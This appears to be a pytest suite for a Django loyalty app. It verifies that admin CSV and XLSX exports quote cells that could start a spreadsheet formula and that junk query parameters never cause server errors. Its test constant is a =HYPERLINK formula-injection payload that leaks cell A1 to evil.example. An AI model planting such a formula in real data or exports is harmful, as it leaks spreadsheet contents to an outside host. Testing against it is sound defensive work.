"""Every export: no cell becomes a spreadsheet formula (numbers stay numbers), and junk query
parameters on every export URL are a 4xx or the unfiltered export, never a 500.

The export URLs are found, not listed: every admin URL whose name contains "export" and every
admin action whose name does, on every registered model; a new export is tested automatically.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.contrib import admin
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from loyalty import services as loyalty
from loyalty.exports import csv_lines, safe_cell
from loyalty.kernel import SYSTEM
from loyalty.models import Member, Reward
from promotions import services as promotions
from promotions.models import Code, CodeBatch
from redemptions import resources
from redemptions import services as redemptions
from redemptions.models import Redemption
from tests.helpers import admin_url, login

pytestmark = pytest.mark.filterwarnings("ignore:No directory at:UserWarning")

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


# --- the one rule -----------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_could_start_a_formula_is_quoted(start):
    assert safe_cell(f"{start}SUM(A1)") == f"'{start}SUM(A1)"


@pytest.mark.parametrize("value", [-100, 0, 7, Decimal("-1.50"), 2.5, None, True, "plain", "", "a=b", "'=x"])
def test_everything_else_passes_unchanged(value):
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


def test_in_csv_a_negative_number_stays_a_number_and_text_is_quoted():
    assert (
        "".join(csv_lines([[-100, "-100", EVIL]]))
        == '-100,\'-100,"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"\r\n'
    )


def test_the_import_export_resource_decides_by_the_value_not_by_its_rendering():
    """django-import-export renders integers as strings for CSV: "-100" of points_spent stays -100."""
    row = Redemption(id=5, points_spent=-100, quantity=1, kind="redemption", status="pending", channel="-web")
    resource = resources.RedemptionResource()
    values = dict(zip(resource.get_export_headers(), resource.export_resource(row), strict=True))
    assert values["points_spent"] == "-100" and values["id"] == "5"
    assert values["channel"] == "'-web"


# --- the exports themselves, with hostile text ----------------------------------------------------


@pytest.fixture
def hostile(member, metric, admin_user, support_user, django_capture_on_commit_callbacks):
    """A member and a reward whose names and ids a spreadsheet would run, with a redemption and codes."""
    evil = loyalty.enroll_member(external_id=EVIL, email="=x@example.com", name=EVIL, actor=SYSTEM)
    loyalty.credit_points(member=evil, metric=metric, amount=500, reason="opening", actor=SYSTEM)
    reward = Reward.objects.create(external_id="+RW", name="@SUM(1,2)", type="badge", metric=metric, points=100)
    red = redemptions.redeem_reward(member=evil, reward=reward, actor=support_user, channel="-pos")
    campaign = promotions.create_campaign(actor=admin_user, name="-Campaign", kind="percent_discount", value=10)
    with django_capture_on_commit_callbacks(execute=True):
        batch = promotions.create_code_batch(campaign=campaign, actor=admin_user, count=2, length=8)
    Code.objects.filter(batch=batch).update(assigned_member=evil)
    return {"member": evil, "redemption": red, "batch": batch}


def _csv(response) -> list[dict]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_redemption_exports_quote_formulas_and_keep_numbers(hostile, admin_user):
    client = login(admin_user)
    streamed = _csv(client.get(admin_url("redemptions_redemption_export_csv")))
    [row] = [r for r in streamed if r["id"] == str(hostile["redemption"].pk)]
    assert row["member_external_id"] == "'" + EVIL and row["member_email"] == "'=x@example.com"
    assert row["reward"] == "'@SUM(1,2)" and row["reward_external_id"] == "'+RW" and row["channel"] == "'-pos"
    assert row["points_spent"] == "100" and row["quantity"] == "1"

    page = client.get(admin_url("redemptions_redemption_export"))
    formats = {v: k for k, v in page.context["form"].fields["format"].choices if k != ""}
    payload = {"resource": 0, **{f"redemptionresource_{name}": "on" for name, _ in resources.EXPORT_COLUMNS}}
    in_memory = _csv(client.post(admin_url("redemptions_redemption_export"), {**payload, "format": formats["csv"]}))
    [row] = [r for r in in_memory if r["id"] == str(hostile["redemption"].pk)]
    assert row["member_external_id"] == "'" + EVIL and row["points_spent"] == "100"

    xlsx = client.post(admin_url("redemptions_redemption_export"), {**payload, "format": formats["xlsx"]})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    header = [c.value for c in sheet[1]]
    cells = {
        header[i]: c
        for i, c in enumerate(next(r for r in sheet.iter_rows(min_row=2) if r[0].value == hostile["redemption"].pk))
    }
    assert cells["member_external_id"].data_type == "s" and cells["member_external_id"].value == "'" + EVIL
    assert cells["points_spent"].data_type == "n" and cells["points_spent"].value == 100


@pytest.mark.django_db
def test_code_exports_quote_formulas(hostile, admin_user):
    client = login(admin_user)
    for response in (
        client.get(admin_url("promotions_code_export")),
        client.get(admin_url("promotions_codebatch_export", hostile["batch"].pk)),
    ):
        rows = [r for r in _csv(response) if r["batch"] == str(hostile["batch"].pk)]
        assert len(rows) == 2
        assert {r["assigned_member"] for r in rows} == {"'" + EVIL}
        assert {r["campaign"] for r in rows} == {"'-Campaign"}
        assert {r["uses"] for r in rows} == {"0"}


# --- junk on every export URL --------------------------------------------------------------------

JUNK = ["foo=bar", "page=abc", "p=99999", "p=abc", "o=zz", "o=-99", "q=%25", "e=1", "all=", "_changelist_filters=x=y"]


def _export_url_names(resolver: URLResolver | None = None, namespace: str = "") -> set[str]:
    names = set()
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            names |= _export_url_names(pattern, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
        elif isinstance(pattern, URLPattern) and pattern.name and "export" in pattern.name:
            names.add(namespace + pattern.name)
    return names


def _export_actions() -> list[tuple[type, str]]:
    found = []
    for model, model_admin in admin.site._registry.items():
        for action in model_admin.actions or ():
            name = action if isinstance(action, str) else action.__name__
            if "export" in name:
                found.append((model, name))
    return found


@pytest.fixture
def demo(hostile, admin_user):
    client = login(admin_user)
    client.raise_request_exception = False  # a server error is an answer to count, not an exception
    return client


@pytest.mark.django_db
def test_every_export_url_and_action_takes_junk_without_a_server_error(demo):
    names = _export_url_names()
    actions = _export_actions()
    # What there is today (a new export joins this test by its name; this keeps the finder honest).
    assert {
        "admin:redemptions_redemption_export",
        "admin:redemptions_redemption_export_csv",
        "admin:promotions_code_export",
        "admin:promotions_codebatch_export",
    } <= names
    assert {(CodeBatch, "export_csv"), (Code, "export_selected")} <= set(actions)
    batch = CodeBatch.objects.order_by("pk").first()
    failures = []
    for name in sorted(names):
        path = reverse(name, args=[batch.pk]) if name.endswith("codebatch_export") else reverse(name)
        for method in ("get", "post"):
            data = {"format": "0", "resource": "0"} if method == "post" else None
            plain = getattr(demo, method)(path, data)
            unfiltered = _csv(plain) if plain.get("Content-Type", "").startswith("text/csv") else None
            for junk in JUNK:
                r = getattr(demo, method)(f"{path}?{junk}", data)
                if r.status_code >= 500:
                    failures.append((method, f"{path}?{junk}", r.status_code))
                elif r.status_code == 200 and r.get("Content-Type", "").startswith("text/csv"):
                    # the body streams to the end, and it is the unfiltered export (or, for a search, a part)
                    rows = _csv(r)
                    if unfiltered is not None and not junk.startswith("q="):
                        assert rows == unfiltered, f"{method} {path}?{junk}"
    for model, action in actions:
        changelist = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        some = list(model._default_manager.order_by("pk").values_list("pk", flat=True)[:3])
        for junk in JUNK:
            r = demo.post(f"{changelist}?{junk}", {"action": action, "_selected_action": some})
            if r.status_code >= 500:
                failures.append(("action", f"{changelist}?{junk} {action}", r.status_code))
            elif r.status_code == 200 and r.get("Content-Type", "").startswith("text/csv"):
                _csv(r)
    assert failures == [], "\n".join(map(str, failures))


@pytest.mark.django_db
def test_a_member_named_like_a_formula_is_text_in_every_member_export(hostile, admin_user):
    """The issue's case: a member named =HYPERLINK(...) opens as text wherever members are exported."""
    assert Member.objects.filter(external_id=EVIL).exists()
    client = login(admin_user)
    texts = [
        b"".join(client.get(admin_url("redemptions_redemption_export_csv")).streaming_content).decode(),
        b"".join(client.get(admin_url("promotions_code_export")).streaming_content).decode(),
    ]
    for text in texts:
        assert EVIL in text.replace('""', '"')
        assert f"\n{EVIL[:5]}" not in text and f",{EVIL[:5]}" not in text and ',"=' not in text
